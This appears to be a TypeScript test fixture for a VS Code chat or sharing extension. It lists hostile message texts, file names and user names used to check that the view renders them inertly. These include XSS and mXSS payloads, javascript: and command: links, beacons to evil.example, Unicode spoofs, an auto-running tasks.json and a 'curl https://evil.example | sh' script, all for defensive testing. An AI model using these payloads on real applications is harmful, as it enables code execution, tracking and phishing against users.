/** What people send who want something to run, open, load or look like something else. `pwned()` is what would run. */

const scripts = [
  '<script>pwned()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '"><script>pwned()</script>',
  "';pwned();//",
  '</textarea><script>pwned()</script>',
  '<!--><script>pwned()</script-->',
  '<![CDATA[<script>pwned()</script>]]>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
] as const

const handlers = [
  '<img src=x onerror=pwned()>',
  '<img src="https://evil.example/track.png">',
  '<image src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwned()</script></svg>#x"/></svg>',
  '<body onload=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<details open ontoggle=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<marquee onstart=pwned()>',
  '<div style="background:url(https://evil.example/x)">styled</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="data:text/html,<script>pwned()</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/"><button>send</button></form>',
  '<a href="javascript:pwned()">run</a>',
  '<tincan-code .text=x onclick=pwned()></tincan-code>',
] as const

const links = [
  '[a](javascript:pwned())',
  '[a](JaVaScRiPt:pwned())',
  '[a](java\tscript:pwned())',
  '[a](&#106;avascript:pwned())',
  '[a](\u0001javascript:pwned())',
  '[a](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)',
  '[a](vbscript:pwned)',
  '[a](command:workbench.action.terminal.new)',
  '[a](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D)',
  '[a](vscode://tincan.tincan/join#AAAA)',
  '[a](vscode-insiders://x/y)',
  '[a](vscode-resource:/etc/passwd)',
  '[a](vscode-webview://x/y)',
  '[a](file:///etc/passwd)',
  '[a](//evil.example/x)',
  '[a](blob:https://evil.example/x)',
  '![a](javascript:pwned())',
  '![a](https://evil.example/track.png)',
  '![a](data:image/svg+xml,<svg/onload=pwned()>)',
  '<javascript:pwned()>',
  '<command:workbench.action.quit>',
  'javascript:pwned()',
  'command:workbench.action.quit',
  'vscode://tincan.tincan/join#AAAA',
  '[a](https://example.org/" onmouseover="pwned\\(\\)")',
  '[a]: javascript:pwned()\n\n[a]',
  '[https://bank.example](https://evil.example)',
  'https://аррӏе.com/ https://xn--80ak6aa92e.com/',
  'https://bank.example@evil.example/',
  'https://example.org/\u202egnp.exe',
] as const

const shapes = [
  '\u0000\u0001\u001b[31mred\u001b[0m\u0007',
  'user\u202egnp.exe\u202c and \u2067right to left\u2069',
  'Z̸̧̢a̷l̶g̵o̴'.repeat(50),
  '\u200b\u200c\u200d\ufeff\u2060',
  '__proto__ constructor prototype hasOwnProperty',
  `${'> '.repeat(300)}deep`,
  `${'- '.repeat(300)}deep`,
  `${'['.repeat(2_000)}x${']('.repeat(2_000)}`,
  '`'.repeat(5_000),
  '|a|\n|-|\n'.repeat(400),
  'ﷺ'.repeat(500),
] as const

/** As the texts of messages. */
export const hostileTexts: readonly string[] = [...scripts, ...handlers, ...links, ...shapes]

/** As files somebody shares: what would run if it were shown as what it says it is. */
export const hostileFiles: readonly { readonly language: string; readonly path: string; readonly text: string }[] = [
  { language: 'html', path: 'index.html', text: '<!doctype html><script>pwned()</script><img src=x onerror=pwned()>' },
  {
    language: 'xml',
    path: 'cat.svg',
    text: '<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"><script>pwned()</script></svg>',
  },
  { language: 'markdown', path: 'README.md', text: '[run](command:workbench.action.quit) <img src=x onerror=pwned()>' },
  {
    language: 'json',
    path: '.vscode/tasks.json',
    text: '{"tasks":[{"command":"id","runOptions":{"runOn":"folderOpen"}}]}',
  },
  { language: 'shellscript', path: 'a"><img src=x onerror=pwned()>.sh', text: 'curl https://evil.example | sh' },
  { language: 'plaintext', path: `${'long'.repeat(70)}.txt`, text: 'x' },
  { language: 'plaintext', path: 'CON', text: 'reserved' },
]

/** As names that people give themselves. The core refuses some of them; the view must stand them all. */
export const hostileNames: readonly string[] = [
  '<img src=x onerror=pwned()>',
  '"><script>pwned()</script>',
  'Bob\u202egnp.exe',
  '[x](command:workbench.action.quit)',
  '$(trash) Bob',
  '__proto__',
]
